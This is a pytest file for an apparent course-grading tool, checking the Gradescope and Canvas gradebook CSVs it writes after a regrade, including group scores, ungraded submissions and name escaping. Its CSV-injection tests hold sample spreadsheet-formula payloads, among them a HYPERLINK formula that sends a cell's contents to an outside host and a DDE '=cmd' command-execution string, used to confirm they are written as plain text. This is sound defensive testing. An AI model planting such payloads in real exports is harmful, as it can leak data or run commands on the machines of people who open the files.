"""The gradebooks a regrade writes: one row per student, read back as Gradescope's score upload and Canvas's
Gradebook import read them."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
import yaml
from disguise import reformatted, renamed
from hypothesis import given, settings
from hypothesis import strategies as st

from helpers import ROOT, SUBMISSIONS, lmgrade
from lmgrade.course.regrade import discover, regrade
from lmgrade.course.regrade.cells import FORMULA_STARTS
from lmgrade.course.regrade.executor import Executor
from lmgrade.course.regrade.gradebook import CANVAS, GRADESCOPE, NOT_GRADED_COLUMN, write_gradebooks
from lmgrade.course.regrade.graded import CheckScore, Graded, grade_folder
from lmgrade.course.regrade.layout import METADATA, Student, SubmissionFolder
from lmgrade.declare import templates

EXPORT = """\
submission_3:
  :submitters:
  - :name: Ada Lovelace
    :sid: '100'
    :email: ada@example.edu
submission_12:
  :submitters:
  - :name: Pair One
    :sid: '200'
    :email: one@example.edu
  - :name: "Two, Pair"
    :email: two@example.edu
submission_20:
  :submitters:
  - :name: Cy Third
    :sid: '300'
    :email: cy@example.edu
"""

# --- parsers of the documented formats: the header each LMS requires, then one row per student ---

CANVAS_REQUIRED = ("Student", "ID", "SIS User ID", "SIS Login ID", "Section")
SCORE = re.compile(r"^(\d+(\.\d+)?)?$")  # a number of points, or empty (left as it is)


def read_gradescope_upload(path: Path) -> tuple[str, list[dict]]:
    """Gradescope's score upload: a "Name" column, an "Email" or "SID" column to match students by, and one
    score column (and "not graded" last, where a submission could not be graded: to fix before importing).
    (The score column's heading, and the rows as dicts.)"""
    with open(path, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        header = list(reader.fieldnames or ())
        rows = list(reader)
    assert "Name" in header and {"Email", "SID"} & set(header), header
    (score,) = [c for c in header if c not in ("Name", "Email", "SID", NOT_GRADED_COLUMN)]
    assert all(SCORE.match(row[score]) for row in rows)
    assert all(None not in row for row in rows), "a row longer than the header"
    return score, rows


def read_canvas_import(path: Path) -> tuple[list[str], list[dict]]:
    """Canvas's Gradebook import: "Student", "ID", "SIS User ID", "SIS Login ID", "Section" first, then one
    column per assignment; a "Points Possible" row may follow the header. (The assignments, the rows.)"""
    with open(path, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    header, rows = table[0], table[1:]
    assert tuple(header[: len(CANVAS_REQUIRED)]) == CANVAS_REQUIRED, header
    assignments = [c for c in header[len(CANVAS_REQUIRED) :] if c != NOT_GRADED_COLUMN]
    assert assignments and all(len(row) == len(header) for row in rows)
    rows = [dict(zip(header, row)) for row in rows if row[0].strip() != "Points Possible"]
    for row in rows:
        assert any(row[c] for c in ("Student", "ID", "SIS User ID", "SIS Login ID")), row
        assert all(SCORE.match(row[a]) for a in assignments)
    return assignments, rows


def _graded(score: float) -> Graded:
    return Graded((CheckScore("pad", score, 10.0, ""), CheckScore("fit", 0.0, 90.0, "")), files_hash="x")


def test_every_student_gets_a_row_with_their_submission_s_score(tmp_path):
    root = tmp_path / "export"
    root.mkdir()
    (root / METADATA).write_text(EXPORT)
    for name in ("submission_3", "submission_12", "submission_20", "late_upload"):
        (root / name).mkdir()
    layout = discover(root)
    scores = {"submission_3": _graded(7.5), "submission_12": _graded(10), "late_upload": _graded(2)}
    rows = [(s, scores.get(s.key) or Graded(error="HarnessFault: the sandbox broke")) for s in layout.submissions]
    (gradescope, canvas), note = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
    assert (gradescope.name, canvas.name) == (GRADESCOPE, CANVAS) and gradescope.parent == tmp_path

    score, uploaded = read_gradescope_upload(gradescope)
    by_email = {row["Email"]: row for row in uploaded}
    assert by_email["ada@example.edu"] == {
        "Name": "Ada Lovelace",
        "SID": "100",
        "Email": "ada@example.edu",
        score: "7.5",
        NOT_GRADED_COLUMN: "",  # (submission_20 could not be graded: see below)
    }
    # A group's members each get the group's score; a student without an SID keeps the email to match by.
    assert by_email["one@example.edu"][score] == by_email["two@example.edu"][score] == "10"
    assert by_email["two@example.edu"]["Name"] == "Two, Pair" and by_email["two@example.edu"]["SID"] == ""
    # Not graded (a harness fault): the row is there, scored 0, never empty (an import would keep an earlier
    # grade); the note says, in one line, what to do before importing.
    assert by_email["cy@example.edu"][score] == "0"
    failed = [line for line in note.splitlines() if "could not be graded" in line]
    assert len(failed) == 1 and "submission_20" in failed[0] and "before importing" in failed[0]
    # A folder the metadata does not list: named by its folder, and the note says it cannot be matched.
    assert by_email[""]["Name"] == "late_upload" and by_email[""][score] == "2"
    assert "late_upload" in note and "named by their folders" in note
    assert len(uploaded) == 5

    (assignment,), imported = read_canvas_import(canvas)
    assert assignment == "ngram"
    # In the submissions' natural order (late_upload, submission_3, submission_12, submission_20).
    assert [row["Student"] for row in imported] == ["late_upload", "Ada Lovelace", "Pair One", "Two, Pair", "Cy Third"]
    ada = imported[1]
    assert (ada["ID"], ada["SIS User ID"], ada["SIS Login ID"], ada["Section"], ada[assignment]) == (
        "",
        "100",
        "ada@example.edu",
        "",
        "7.5",
    )
    assert [row[assignment] for row in imported] == [by_email[row["SIS Login ID"]][score] for row in imported]
    # CRLF line ends, as both LMSs' own exports write them.
    assert gradescope.read_bytes().count(b"\r\n") == 6 and b"\n" not in gradescope.read_bytes().replace(b"\r\n", b"")


def _columns(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return next(csv.reader(f))


def test_a_submission_that_made_the_grader_fail_has_its_cause_and_what_to_do_in_its_own_rows(tmp_path):
    root = tmp_path / "export"
    root.mkdir()
    (root / METADATA).write_text(EXPORT)
    for name in ("submission_3", "submission_12", "submission_20"):
        (root / name).mkdir()
    layout = discover(root)
    errors = {
        "submission_12": "PermissionError: [Errno 13] Permission denied: 'ngram.py'",
        # Whatever text a failure carries (a file's name is the student's), the cell is never a formula.
        "submission_20": '=HYPERLINK("http://x/?"&C2,"Ada")\nsecond line',
    }
    rows = [(s, Graded(error=errors[s.key]) if s.key in errors else _graded(7.5)) for s in layout.submissions]
    (gradescope, canvas), note = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
    assert _columns(gradescope)[-1] == _columns(canvas)[-1] == NOT_GRADED_COLUMN
    score, uploaded = read_gradescope_upload(gradescope)
    (assignment,), imported = read_canvas_import(canvas)
    for by in (
        [(r["Email"], r[score], r[NOT_GRADED_COLUMN]) for r in uploaded],
        [(r["SIS Login ID"], r[assignment], r[NOT_GRADED_COLUMN]) for r in imported],
    ):
        said = {email: (points, why) for email, points, why in by}
        assert said["ada@example.edu"] == ("7.5", "")
        # Each member of the group whose grading failed: 0, never empty, with the cause and the remedy.
        for email in ("one@example.edu", "two@example.edu"):
            assert said[email] == (
                "0",
                "PermissionError: [Errno 13] Permission denied: 'ngram.py'; to do: make every file of the "
                "submission readable by the user running lmgrade (chmod -R u+rX FOLDER), then run the same "
                "command again: only the submissions not graded are graded again",
            )
        points, why = said["cy@example.edu"]
        assert points == "0" and why.startswith("'=HYPERLINK(") and "\n" not in why and "; to do: " in why
    (line,) = [line for line in note.splitlines() if "could not be graded" in line]
    assert "submission_12, submission_20" in line and '"not graded" column' in line and "before importing" in line
    # Once every submission is graded, no such column: what is imported holds the LMS's columns alone.
    rows = [(s, _graded(7.5)) for s in layout.submissions]
    (gradescope, canvas), note = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
    assert NOT_GRADED_COLUMN not in _columns(gradescope) + _columns(canvas) and "could not be graded" not in note


def test_plain_folders_are_named_by_their_folders_and_the_variant_names_the_column(tmp_path):
    for name in ("bob", "alice"):
        (tmp_path / "class" / name).mkdir(parents=True)
    rows = [(s, _graded(3)) for s in discover(tmp_path / "class").submissions]
    (gradescope, canvas), note = write_gradebooks(tmp_path / "scores.csv", "rnn", {"activation": "tanh"}, rows)
    _, uploaded = read_gradescope_upload(gradescope)
    assert [(row["Name"], row["Email"], row["SID"]) for row in uploaded] == [("alice", "", ""), ("bob", "", "")]
    assert note.startswith("gradebooks: 2 submission(s) have no student") and "alice, bob" in note
    (assignment,), imported = read_canvas_import(canvas)
    assert assignment == "rnn activation=tanh" and [row[assignment] for row in imported] == ["3", "3"]


class _ThisProcess(Executor):
    """The session's ngram grader: a regrade without starting a second sandbox."""

    capacity = 1

    def __init__(self, grader, assignment, variant):
        self.grader, self.assignment, self.variant = grader, assignment, variant

    def grade(self, submissions):
        for s in submissions:
            yield s, Graded.from_dict(grade_folder(self.grader, self.assignment, self.variant, s.folder))

    def close(self) -> None:
        pass


def test_a_regrade_writes_the_gradebooks_and_a_review_queue_whose_links_lead_to_the_feedback(
    ngram, ngram_grader, tmp_path
):
    assignment, variant = ngram
    stub = templates.render(assignment, variant)["ngram.py"]
    root = tmp_path / "export"
    for name in ("submission_3", "submission_12", "submission_20"):
        (root / name).mkdir(parents=True)
    (root / METADATA).write_text(EXPORT)
    reference = (ROOT / "reference" / "ngram" / "ngram.py").read_text()
    (root / "submission_3" / "ngram.py").write_text(reference)
    (root / "submission_12" / "ngram.py").write_text(reformatted(renamed(reference, stub)))
    shutil.copy(SUBMISSIONS / "ngram" / "dict_of_dicts" / "ngram.py", root / "submission_20")
    out = tmp_path / "grades"
    summary = regrade(
        assignment,
        variant,
        discover(root),
        out / "scores.csv",
        make_executor=lambda: _ThisProcess(ngram_grader, assignment, variant),
        secret="unused: the grader is made",
    )
    assert summary.gradebooks == (out / GRADESCOPE, out / CANVAS) and summary.notes == []
    score, uploaded = read_gradescope_upload(out / GRADESCOPE)
    # The disguised copy still earns full marks: the queue never changes a score.
    assert [(row["Email"], row[score]) for row in uploaded] == [
        ("ada@example.edu", "100"),
        ("one@example.edu", "100"),
        ("two@example.edu", "100"),
        ("cy@example.edu", "100"),
    ]
    html = (out / "report.html").read_text()
    queue = html[html.index('<table id="review">') : html.index("</table>", html.index('<table id="review">'))]
    links = re.findall(r'<a href="([^"]+)">([^<]+)</a>', queue)
    assert [key for _, key in links] == ["submission_3", "submission_12"]
    assert all((out / href).is_file() for href, _ in links)
    assert "1 near-duplicate pair" in queue and "submission_20" not in queue
    assert 'id="to-review">1<' in html  # one group, once


def test_the_command_names_the_gradebooks_and_says_when_students_are_folder_names(tmp_path, reference_submission):
    (tmp_path / "class" / "alice").mkdir(parents=True)
    shutil.copy(reference_submission / "ngram.py", tmp_path / "class" / "alice")
    out = lmgrade("regrade", "ngram", tmp_path / "class", "-o", tmp_path / "out" / "scores.csv", "--jobs", "1")
    assert out.returncode == 0, out.stderr
    assert str(tmp_path / "out" / GRADESCOPE) in out.stdout and str(tmp_path / "out" / CANVAS) in out.stdout
    assert "named by their folders" in out.stdout
    _, uploaded = read_gradescope_upload(tmp_path / "out" / GRADESCOPE)
    assert [(row["Name"], row["Total Score"]) for row in uploaded] == [("alice", "100")]


@pytest.mark.parametrize("name", ["Ada, Lovelace", 'Quote "Q" Person', "Ünïcode Name"])
def test_names_with_commas_quotes_and_accents_survive_both_formats(tmp_path, name):
    root = tmp_path / "export"
    (root / "s1").mkdir(parents=True)
    (root / METADATA).write_text(f"s1:\n  :submitters:\n  - :name: '{name}'\n    :email: x@example.edu\n")
    rows = [(s, _graded(1)) for s in discover(root).submissions]
    (gradescope, canvas), _ = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
    assert read_gradescope_upload(gradescope)[1][0]["Name"] == name
    assert read_canvas_import(canvas)[1][0]["Student"] == name


FORMULAS = ['=HYPERLINK("http://x/?"&C2,"Ada")', "=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_a_student_wrote_is_a_formula(tmp_path, text):
    """Names, SIDs and emails come from students: OWASP's rule makes each a text cell; the scores stay numbers."""
    root = tmp_path / "export"
    (root / "s1").mkdir(parents=True)
    student = {"name": text, "sid": text, "email": text}
    (root / METADATA).write_text(yaml.safe_dump({"s1": {":submitters": [{f":{k}": v for k, v in student.items()}]}}))
    rows = [(s, _graded(1)) for s in discover(root).submissions]
    (gradescope, canvas), _ = write_gradebooks(tmp_path / "scores.csv", "=cmd|' /C calc'!A0", {}, rows)
    (row,) = read_gradescope_upload(gradescope)[1]
    assert row["Name"] == row["SID"] == row["Email"] == "'" + text and row["Total Score"] == "1"
    (heading,), (imported,) = read_canvas_import(canvas)
    assert heading.startswith("'=") and imported["Student"] == "'" + text and imported[heading] == "1"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40), st.text(max_size=40))
def test_any_name_is_written_as_text_that_no_spreadsheet_runs(tmp_path_factory, name, sid):
    tmp_path = tmp_path_factory.mktemp("cells")
    rows = [(SubmissionFolder("s1", tmp_path, (Student(name, "e@x", sid),)), _graded(1))]
    (gradescope, canvas), _ = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
    for path in (gradescope, canvas):
        with open(path, newline="", encoding="utf-8") as f:
            cells = [cell for line in csv.reader(f) for cell in line]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
        assert "1" in cells
